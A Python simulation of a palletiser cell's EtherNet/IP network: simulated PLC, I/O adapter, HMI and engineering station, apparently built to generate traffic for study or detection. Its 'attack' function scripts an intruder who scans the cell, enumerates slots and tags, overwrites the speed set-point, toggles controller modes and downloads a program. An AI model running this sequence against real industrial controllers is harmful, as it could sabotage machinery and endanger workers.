"""Cell 3, the palletiser, over EtherNet/IP: a ControlLogix chassis, a remote I/O adapter, and those
who talk to them. Server and client are those of tests/support/enip.

    enip_cell.py plc7|io7|hmi|ews T0

Intervals that are told on the wire are in plant time; the cell runs plant.SPEED times as fast.
"""
import asyncio
import pathlib
import socket
import struct
import sys

import plant

ENIP = pathlib.Path(__file__).resolve().parents[2] / "tests" / "support" / "enip"
sys.path.append(str(ENIP))
import client as source  # noqa: E402
import device  # noqa: E402
import logix_engineering  # noqa: E402
import implicit  # noqa: E402
import server  # noqa: E402
import tags  # noqa: E402
import wire  # noqa: E402

PLC, IO = plant.BY_NAME["plc7"], plant.BY_NAME["io7"]
SLOT = 0
RPI = 0.5  # plant seconds
ADAPTER_KEY = (1, 0x0C, 0x6C, 5, 12)
CONFIG, OUTPUTS, INPUTS = 102, 100, 101
POLLED = ("Pallet_Speed", "Pallet_Layer", "Pallets_Done", "Wrapper_Tension", "Running")


def mac(host):
    return bytes.fromhex(host.mac.replace(":", ""))


def chassis():
    """The Ethernet module with its chassis, and the controller in slot 0."""
    database = tags.TagDatabase([
        tags.Tag("Pallet_SpeedSP", "DINT", [80]), tags.Tag("Pallet_Speed", "DINT", [79]),
        tags.Tag("Pallet_Layer", "INT", [1]), tags.Tag("Pallets_Done", "DINT", [212]),
        tags.Tag("Wrapper_Tension", "REAL", [3.5]), tags.Tag("Running", "BOOL", [1]),
        tags.Tag("Light_Curtain", "BOOL", [1]), tags.program("Palletiser"),
        tags.Tag("Program:Palletiser.Step", "DINT", [10]),
    ])
    plc = device.Controller(1, 0x0E, 0x5C, (20, 11), 0x00A1B2C3, "1756-L71/B LOGIX5571",
                            tags=database, project="PALLETISER_L2", ip=PLC.ip, mac=mac(PLC))
    bridge = device.Device(1, 0x0C, 0xA6, (10, 10), 0x00C4D117, "1756-EN2T/D", ip=PLC.ip,
                           mac=mac(PLC))
    bridge.slots = {
        0: plc, 1: device.Device(1, 0x07, 0x0A, (3, 3), 0x00770011, "1756-IB16/A"),
        2: device.Device(1, 0x07, 0x34, (3, 2), 0x00770a52, "1756-OB16E/A"), 3: bridge}
    return bridge, plc


def adapter():
    return device.Device(1, 0x0C, 0x6C, (5, 12), 0x60A1F00D, "1734-AENT/B", ip=IO.ip, mac=mac(IO),
                         assemblies={OUTPUTS: bytes(4), INPUTS: bytes(4), CONFIG: b""})


async def connect(ip, local=None):
    while True:
        try:
            return await source.Client.connect(ip, local)
        except OSError:
            await asyncio.sleep(0.2)


class Clock:
    def __init__(self, t0):
        self.now, _ = plant.clock(t0)

    async def until(self, when):
        await asyncio.sleep(max(0.0, when - self.now()) / plant.SPEED)


async def io7(clock):
    module = adapter()
    await server.Server(module, IO.ip, speed=plant.SPEED).start()
    for second in range(plant.DURATION):
        await clock.until(second)
        struct.pack_into("<HH", module.assemblies[INPUTS], 0, 0x8000 | second % 8,
                         2000 + second * 3 % 50)


async def plc7(clock):
    bridge, plc = chassis()
    io = await implicit.IoEndpoint().open(PLC.ip)
    await server.Server(bridge, PLC.ip, io=io, speed=plant.SPEED).start()
    await clock.until(2.8)
    scanner = await connect(IO.ip)
    scanner.vendor, scanner.serial = 1, plc.serial
    out, into = bytearray(4), bytearray(4)
    connection = await scanner.open_io(io, IO.ip, CONFIG, OUTPUTS, INPUTS, RPI, out, into,
                                       ADAPTER_KEY, plant.SPEED)
    for second in range(3, plant.DURATION):
        await clock.until(second)
        connection.run = plc.running
        if not plc.running:
            continue
        speed = plc.tags.value("Pallet_SpeedSP")
        plc.tags.set("Pallet_Speed", speed - second % 3)
        plc.tags.set("Pallet_Layer", second // 20 % 6 + 1)
        plc.tags.set("Pallets_Done", 212 + second // 120)
        plc.tags.set("Wrapper_Tension", 3.5 + second % 7 / 10)
        struct.pack_into("<HH", out, 0, speed, second // 20 % 6 + 1)


async def hmi(clock):
    await clock.until(3.4)
    client = await connect(PLC.ip)
    await client.open(slot=SLOT, rpi=2_000_000)
    writes = list(plant.TAG_WRITES)
    for second in range(4, plant.DURATION):
        await clock.until(second + 0.15)
        if writes and clock.now() >= writes[0][0]:
            _, name, kind, value = writes.pop(0)
            await client.write(name, kind, value)
        await client.multiple([(tags.READ_TAG, wire.tag_path(name), b"\1\0") for name in POLLED])


async def ews(clock):
    """After its round over Modbus the engineering station looks into the chassis."""
    await clock.until(plant.ENGINEERING_AT + 45)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.sendto(wire.encapsulate(wire.LIST_IDENTITY), (PLC.ip, server.PORT))
        s.recv(512)
    client = await connect(PLC.ip)
    for slot in range(4):
        await clock.until(plant.ENGINEERING_AT + 46 + slot)
        client.slot = slot
        await client.good(device.GET_ALL, wire.object_path(device.IDENTITY, 1))
    client.slot = SLOT
    await client.good(device.GET_LIST, wire.object_path(device.PROJECT, 1),
                      struct.pack("<HH", 1, 1))
    await client.close()


async def attack(me, note):
    """The laptop: looks for devices, reads the tags, writes one, stops and reloads the controller."""
    t0 = float(sys.argv[1])
    clock = Clock(t0)
    start = plant.ENIP_INCIDENT_AT
    await clock.until(start)
    note("List Identity to cell 3", targets=16)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setblocking(False)
        for host in range(16, 32):
            s.sendto(wire.encapsulate(wire.LIST_IDENTITY),
                     (plant.net(plant.CELL_3, host), server.PORT))
            await asyncio.sleep(0.02)
    await clock.until(start + 8)
    client = await source.Client.connect(PLC.ip)
    client.vendor, client.serial = 0x004D, 0x0BADCAFE
    for slot in range(6):
        client.slot = slot
        answer = await client.ask(device.GET_ALL, wire.object_path(device.IDENTITY, 1))
        note("asks the slot", slot=slot, status=answer.status)
        await asyncio.sleep(0.05)
    client.slot = SLOT
    await clock.until(start + 14)
    names = await client.list_tags()
    note("lists the tags", tags=len(names))
    await clock.until(start + 16)
    note("reads the set-point", value=await client.read("Pallet_SpeedSP"))
    await clock.until(start + 18)
    await client.write("Pallet_SpeedSP", "DINT", 240)
    note("writes the set-point", value=240)
    await clock.until(start + 22)
    await client.open(slot=SLOT)
    await logix_engineering.lock(client)
    await logix_engineering.set_mode(client, run=False)
    note("controller to program mode")
    await clock.until(start + 27)
    await logix_engineering.set_mode(client, run=True)
    note("controller to run mode")
    await logix_engineering.unlock(client)
    await clock.until(start + 32)
    note("program download begins")
    await logix_engineering.download(client)
    note("program download ends")
    await clock.until(start + 38)
    await client.close()


if __name__ == "__main__":
    asyncio.run(globals()[sys.argv[1]](Clock(float(sys.argv[2]))))
